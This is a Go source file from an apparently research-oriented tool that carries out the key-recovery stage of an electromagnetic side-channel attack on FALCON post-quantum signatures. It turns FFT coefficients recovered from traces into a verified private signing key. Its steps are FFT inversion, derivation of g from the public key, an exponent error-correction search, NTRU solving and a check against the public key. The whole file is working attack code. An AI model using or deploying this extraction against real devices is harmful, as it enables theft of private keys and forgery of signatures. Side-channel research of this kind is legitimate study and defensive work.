package core

import (
	"errors"
	"fmt"
	"sort"

	"falcondown/internal/cpa"
	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/fft"
	"falcondown/internal/fpr"
	"falcondown/internal/ntru"
	"falcondown/internal/ntt"
	"falcondown/internal/tracestore"
)

// ValueFailure names one recovered value that the attack could not
// establish with confidence, and why — the per-value diagnosis of a
// failed recovery (RecoveryReport.Failed).
type ValueFailure struct {
	Index  int    // value index: 2·coeff for Re, 2·coeff+1 for Im
	Coeff  int    // FFT coefficient the value belongs to
	Part   Part   // which half of the complex coefficient
	Reason string // human-readable diagnosis
}

func (f ValueFailure) String() string {
	p := "Re"
	if f.Part == PartIm {
		p = "Im"
	}
	return fmt.Sprintf("value %d (coeff %d %s): %s", f.Index, f.Coeff, p, f.Reason)
}

// RecoveryReport summarizes a full key extraction. On failure it is still
// returned (partial) so the caller can see how far the attack got and
// which values are to blame.
type RecoveryReport struct {
	Values      []ValueResult // per recovered FPR value (2 per coefficient)
	F           []int16       // recovered secret element f
	G           []int16       // derived g = h·f mod q
	MinPrune    float64       // weakest prune correlation across values
	Significant bool          // every component above the confidence threshold

	// Corrected lists the value indices whose exponent the
	// error-correction pass substituted from its tie family to make the
	// key plausible (empty on a first-try success).
	Corrected []int
	// CorrectionCapped reports that the error-correction search was
	// truncated at its candidate cap — more tie families existed than it
	// was willing to try, so a failed correction may be a search-budget
	// artifact rather than proof the key is unrecoverable.
	CorrectionCapped bool
	// Failed diagnoses the values that prevented recovery; set only when
	// the extraction failed. Empty Failed with a non-nil error means the
	// statistics look clean and the corpus itself is the suspect.
	Failed []ValueFailure
}

// ErrImplausibleKey reports that the recovered FFT(f) does not invert to a
// plausible FALCON secret (the attack's built-in failure detection: a
// wrong coefficient makes g = h·f mod q large with overwhelming
// probability, so a corrupted recovery never silently yields a bad key).
var ErrImplausibleKey = errors.New("core: recovered key fails plausibility checks")

// gBound is the sanity bound on |g_i| for a correctly recovered key; true
// FALCON g coefficients are tens at most (σ_{f,g} ≈ 4 at n=512).
const gBound = 512

// correctionCap bounds how many tie families the error-correction pass
// walks; when it truncates the search the report says so
// (RecoveryReport.CorrectionCapped).
const correctionCap = 16

// RecoverKey runs the complete attack of the paper against an in-memory
// campaign. It is a thin wrapper over RecoverKeyFrom.
func RecoverKey(obs []emleak.Observation, pub *falcon.PublicKey, cfg Config) (*falcon.PrivateKey, *RecoveryReport, error) {
	if len(obs) == 0 {
		return nil, nil, errNoTraces
	}
	return RecoverKeyFrom(tracestore.NewSliceSource(2*len(obs[0].CFFT), obs), pub, cfg)
}

// RecoverKeyFrom runs the complete attack of the paper against a streamed
// campaign: extract every coefficient of FFT(f) from the traces, invert
// the FFT to f, derive g = h·f mod q from the public key, re-solve the
// NTRU equation for F and G, and assemble a fully functional signing key.
// The source is swept a bounded number of times and never materialized,
// so disk corpora far larger than memory work unchanged.
//
// When the assembled f fails the plausibility check, the recovery does
// not give up immediately: exponent recovery has a documented tie-family
// ambiguity (see attackExponent), so the tied alternatives of the least
// confident values are substituted and re-checked — an error-correction
// pass that costs one n·log n consistency test per candidate.
//
// On failure the partial report is still returned, with Failed naming the
// values that could not be established and why.
func RecoverKeyFrom(src Source, pub *falcon.PublicKey, cfg Config) (*falcon.PrivateKey, *RecoveryReport, error) {
	return RecoverKeyResumable(src, pub, cfg, nil)
}

// RecoverKeyResumable is RecoverKeyFrom with checkpointed recovery: the
// attack phases persist their state through store (see
// AttackFFTfResumable), so a killed extraction rerun against the same
// campaign resumes from the last completed phase. The recovery tail
// (FFT inversion, NTRU solving, verification) is cheap relative to one
// corpus sweep and is simply recomputed. A nil store disables
// checkpointing.
func RecoverKeyResumable(src Source, pub *falcon.PublicKey, cfg Config, store CheckpointStore) (*falcon.PrivateKey, *RecoveryReport, error) {
	fFFT, values, err := AttackFFTfResumable(src, cfg, store)
	if err != nil {
		return nil, nil, err
	}
	return finishRecovery(fFFT, values, pub, cfg)
}

// finishRecovery turns a recovered FFT(f) vector into a working signing
// key: invert the FFT, derive g from the public key, error-correct
// exponent ties if needed, re-solve the NTRU equation and verify the
// reconstructed public key. On failure the partial report carries the
// per-value diagnosis.
func finishRecovery(fFFT []fft.Cplx, values []ValueResult, pub *falcon.PublicKey, cfg Config) (*falcon.PrivateKey, *RecoveryReport, error) {
	cfg = cfg.withDefaults()
	f := fft.RoundToInt16(fFFT)
	n := len(f)
	if n != pub.Params.N {
		return nil, nil, fmt.Errorf("core: campaign degree %d does not match public key degree %d", n, pub.Params.N)
	}

	report := &RecoveryReport{Values: values, F: f, MinPrune: 2, Significant: true}
	for _, v := range values {
		if v.PruneCorr < report.MinPrune {
			report.MinPrune = v.PruneCorr
		}
		if !v.Significant {
			report.Significant = false
		}
	}

	// g = h·f mod q; a single wrong coefficient of f scrambles g into
	// uniformly large values, so the bound check below detects failure.
	g, gErr := deriveG(pub, f)
	if gErr != nil {
		// Error-correction pass: walk the exponent tie families of the
		// recovered values, preferring the ones closest to the winner.
		fix, capped := correctExponents(pub, fFFT, values)
		report.CorrectionCapped = capped
		if fix == nil {
			report.Failed = classifyValueFailures(values, cfg)
			return nil, report, gErr
		}
		f, g = fix.f, fix.g
		report.F = f
		report.Corrected = fix.corrected
	}
	report.G = g

	F, G, err := ntru.Solve(f, g)
	if err != nil {
		report.Failed = classifyValueFailures(values, cfg)
		return nil, report, fmt.Errorf("%w: %v", ErrImplausibleKey, err)
	}
	priv, err := falcon.NewPrivateKey(n, f, g, F, G)
	if err != nil {
		report.Failed = classifyValueFailures(values, cfg)
		return nil, report, fmt.Errorf("%w: %v", ErrImplausibleKey, err)
	}
	for i := range priv.H {
		if priv.H[i] != pub.H[i] {
			report.Failed = classifyValueFailures(values, cfg)
			return nil, report, fmt.Errorf("%w: reconstructed public key mismatch", ErrImplausibleKey)
		}
	}
	return priv, report, nil
}

// classifyValueFailures diagnoses which values are plausibly responsible
// for a failed recovery, and why: insignificant phase statistics first
// (the value is simply not established at the configured confidence),
// then prune correlations far below the campaign median (the signature of
// a dropped extend prefix), then unresolved exponent tie families (the
// value looks clean but its exponent may be mis-tie-broken). Values with
// no symptom are omitted — an empty list with a failed recovery points at
// the corpus, not the statistics.
func classifyValueFailures(values []ValueResult, cfg Config) []ValueFailure {
	if len(values) == 0 {
		return nil
	}
	thr := cpa.Threshold(cfg.Confidence, values[0].TracesUsed)
	med := medianPrune(values)
	var failed []ValueFailure
	for i, v := range values {
		coeff, part := i/2, Part(i%2)
		switch {
		case v.SignCorr < thr:
			failed = append(failed, ValueFailure{i, coeff, part,
				fmt.Sprintf("sign correlation %.3f below the %.2f%% confidence threshold %.3f", v.SignCorr, 100*cfg.Confidence, thr)})
		case v.ExpCorr < thr:
			failed = append(failed, ValueFailure{i, coeff, part,
				fmt.Sprintf("exponent correlation %.3f below the %.2f%% confidence threshold %.3f", v.ExpCorr, 100*cfg.Confidence, thr)})
		case v.PruneCorr < thr:
			failed = append(failed, ValueFailure{i, coeff, part,
				fmt.Sprintf("prune correlation %.3f below the %.2f%% confidence threshold %.3f", v.PruneCorr, 100*cfg.Confidence, thr)})
		case v.PruneCorr < 0.8*med:
			failed = append(failed, ValueFailure{i, coeff, part,
				fmt.Sprintf("prune correlation %.3f far below the campaign median %.3f (extend phase likely dropped the true prefix)", v.PruneCorr, med)})
		case len(v.ExpAlternatives) > 0:
			failed = append(failed, ValueFailure{i, coeff, part,
				fmt.Sprintf("exponent tie family unresolved (%d statistically tied alternatives)", len(v.ExpAlternatives))})
		}
	}
	return failed
}

// deriveG computes g = h·f mod q and checks the plausibility bounds: a
// FALCON f must be invertible mod q (keygen guarantees it), and a single
// wrong coefficient of f scrambles g into uniformly large values, so the
// coefficient bound detects corrupted recoveries. The invertibility check
// also rejects degenerate near-zero candidates for which g = h·f would be
// trivially small.
func deriveG(pub *falcon.PublicKey, f []int16) ([]int16, error) {
	if !ntt.Invertible(ntt.FromSigned(f)) {
		return nil, fmt.Errorf("%w: recovered f not invertible mod q", ErrImplausibleKey)
	}
	gq := ntt.MulModQ(pub.H, ntt.FromSigned(f))
	g := make([]int16, len(f))
	for i, v := range gq {
		c := ntt.Center(v)
		if c < -gBound || c > gBound {
			return nil, fmt.Errorf("%w: g[%d] = %d", ErrImplausibleKey, i, c)
		}
		g[i] = int16(c)
	}
	// The keygen acceptance test: a consistent-but-corrupted (f, g) — for
	// example one whose FFT is nearly zero in a bin where the public key
	// also happens to be small — passes the coefficient bounds yet yields
	// a trapdoor of unusable Gram-Schmidt quality. Rejecting it here sends
	// the error-correction pass looking for the right candidate instead of
	// assembling a key the sampler cannot use.
	if ntru.GSNorm(f, g) > 1.17*1.17*float64(falcon.Q) {
		return nil, fmt.Errorf("%w: Gram-Schmidt norm above keygen bound", ErrImplausibleKey)
	}
	return g, nil
}

// expCorrection is a successful exponent-substitution repair.
type expCorrection struct {
	f, g      []int16
	corrected []int // value indices whose exponent was substituted
}

// correctExponents searches the exponent tie families of the recovered
// values for a substitution that makes the key plausible. Single-value
// substitutions are tried first (the overwhelmingly common failure is one
// mis-tie-broken exponent), ordered by ascending exponent confidence. The
// search walks at most correctionCap tie families; the returned capped
// flag reports whether families were left untried, so a failed correction
// is distinguishable from an exhausted one.
func correctExponents(pub *falcon.PublicKey, fFFT []fft.Cplx, values []ValueResult) (*expCorrection, bool) {
	type option struct {
		idx  int // value index (2k for Re, 2k+1 for Im)
		alts []int
		corr float64
	}
	var opts []option
	for i, v := range values {
		if len(v.ExpAlternatives) > 0 {
			opts = append(opts, option{idx: i, alts: v.ExpAlternatives, corr: v.ExpCorr})
		}
	}
	sort.Slice(opts, func(a, b int) bool { return opts[a].corr < opts[b].corr })
	capped := len(opts) > correctionCap
	if capped {
		opts = opts[:correctionCap] // bound the search; the cap is reported
	}
	trial := make([]fft.Cplx, len(fFFT))
	for _, o := range opts {
		k, isIm := o.idx/2, o.idx%2 == 1
		orig := fFFT[k]
		for _, e := range o.alts {
			copy(trial, fFFT)
			z := orig
			if isIm {
				z.Im = withExponent(z.Im, e)
			} else {
				z.Re = withExponent(z.Re, e)
			}
			trial[k] = z
			f := fft.RoundToInt16(trial)
			if g, err := deriveG(pub, f); err == nil {
				return &expCorrection{f: f, g: g, corrected: []int{o.idx}}, capped
			}
		}
	}
	return nil, capped
}

// withExponent replaces the biased exponent field of v.
func withExponent(v fpr.FPR, biasedExp int) fpr.FPR {
	const expMask = uint64(0x7FF) << 52
	return fpr.FPR(uint64(v)&^expMask | uint64(biasedExp)<<52)
}
